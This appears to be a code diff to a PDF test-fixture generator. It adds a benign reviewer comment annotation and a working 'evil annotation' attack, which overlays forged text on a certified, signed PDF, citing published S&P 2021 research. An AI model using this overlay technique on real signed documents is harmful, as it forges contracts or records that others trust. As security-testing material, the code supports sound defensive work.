@@ -372,6 +372,112 @@ def shadow_hide_and_replace(pdf: bytes) -> bytes:
     return pdf + update
 
 
+# --- annotations under a certification that allows them (DocMDP P=3) ---------------------
+
+
+def comment_annotation(pdf: bytes, text: str = "Đề nghị bổ sung căn cứ pháp lý") -> bytes:
+    """Not an attack: a reader's comment, a sticky note (/Text, 20 pt icon) with its popup,
+    added in an update as a PDF viewer adds one."""
+    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
+    page_ref = writer.find_page_for_modification(0)[0]
+    icon = writer.add_object(
+        generic.StreamObject(
+            {
+                pdf_name("/Type"): pdf_name("/XObject"),
+                pdf_name("/Subtype"): pdf_name("/Form"),
+                pdf_name("/BBox"): generic.ArrayObject(
+                    generic.NumberObject(v) for v in (0, 0, 20, 20)
+                ),
+            },
+            stream_data=b"1 1 0 rg 0 0 20 20 re f 0 G 1 w 4 4 12 12 re S",
+        )
+    )
+    note = writer.add_object(
+        generic.DictionaryObject(
+            {
+                pdf_name("/Type"): pdf_name("/Annot"),
+                pdf_name("/Subtype"): pdf_name("/Text"),
+                pdf_name("/Rect"): generic.ArrayObject(
+                    generic.NumberObject(v) for v in (540, 700, 560, 720)
+                ),
+                pdf_name("/Contents"): generic.TextStringObject(text),
+                pdf_name("/T"): generic.TextStringObject("Chuyên viên pháp chế"),
+                pdf_name("/Name"): pdf_name("/Comment"),
+                pdf_name("/F"): generic.NumberObject(4 | 8 | 16),  # print, no zoom, no rotate
+                pdf_name("/P"): page_ref,
+                pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): icon}),
+            }
+        )
+    )
+    popup = writer.add_object(
+        generic.DictionaryObject(
+            {
+                pdf_name("/Type"): pdf_name("/Annot"),
+                pdf_name("/Subtype"): pdf_name("/Popup"),
+                pdf_name("/Rect"): generic.ArrayObject(
+                    generic.NumberObject(v) for v in (360, 600, 560, 700)
+                ),
+                pdf_name("/Parent"): note,
+                pdf_name("/Open"): generic.BooleanObject(False),
+            }
+        )
+    )
+    note.get_object()[pdf_name("/Popup")] = popup
+    writer.register_annotation(page_ref, note)
+    writer.register_annotation(page_ref, popup)
+    return _write(writer)
+
+
+def overlay_annotation(pdf: bytes, subtype: str = "/FreeText") -> bytes:
+    """Evil annotation attack (Rohlmann et al., "Breaking the Specification: PDF
+    Certification", S&P 2021): an opaque annotation over the signed text, showing FORGED_TEXT
+    where VISIBLE_TEXT was. ``subtype``: /FreeText, /Square, /Stamp, or /Text (a 'comment'
+    stretched over the text)."""
+    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
+    page_ref = writer.find_page_for_modification(0)[0]
+    font = writer.add_object(
+        generic.DictionaryObject(
+            {
+                pdf_name("/Type"): pdf_name("/Font"),
+                pdf_name("/Subtype"): pdf_name("/Type1"),
+                pdf_name("/BaseFont"): pdf_name("/Times-Roman"),
+            }
+        )
+    )
+    cover = writer.add_object(
+        generic.StreamObject(
+            {
+                pdf_name("/Type"): pdf_name("/XObject"),
+                pdf_name("/Subtype"): pdf_name("/Form"),
+                pdf_name("/BBox"): generic.ArrayObject(
+                    generic.NumberObject(v) for v in (0, 0, 460, 30)
+                ),
+                pdf_name("/Resources"): generic.DictionaryObject(
+                    {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): font})}
+                ),
+            },
+            stream_data=b"1 1 1 rg 0 0 460 30 re f BT 0 g /F1 13 Tf 10 10 Td (%s) Tj ET"
+            % FORGED_TEXT,
+        )
+    )
+    annot = writer.add_object(
+        generic.DictionaryObject(
+            {
+                pdf_name("/Type"): pdf_name("/Annot"),
+                pdf_name("/Subtype"): pdf_name(subtype),
+                pdf_name("/Rect"): generic.ArrayObject(
+                    generic.NumberObject(v) for v in (70, 590, 530, 620)
+                ),
+                pdf_name("/F"): generic.NumberObject(4),
+                pdf_name("/P"): page_ref,
+                pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): cover}),
+            }
+        )
+    )
+    writer.register_annotation(page_ref, annot)
+    return _write(writer)
+
+
 # --- helpers -------------------------------------------------------------------------------
 
 
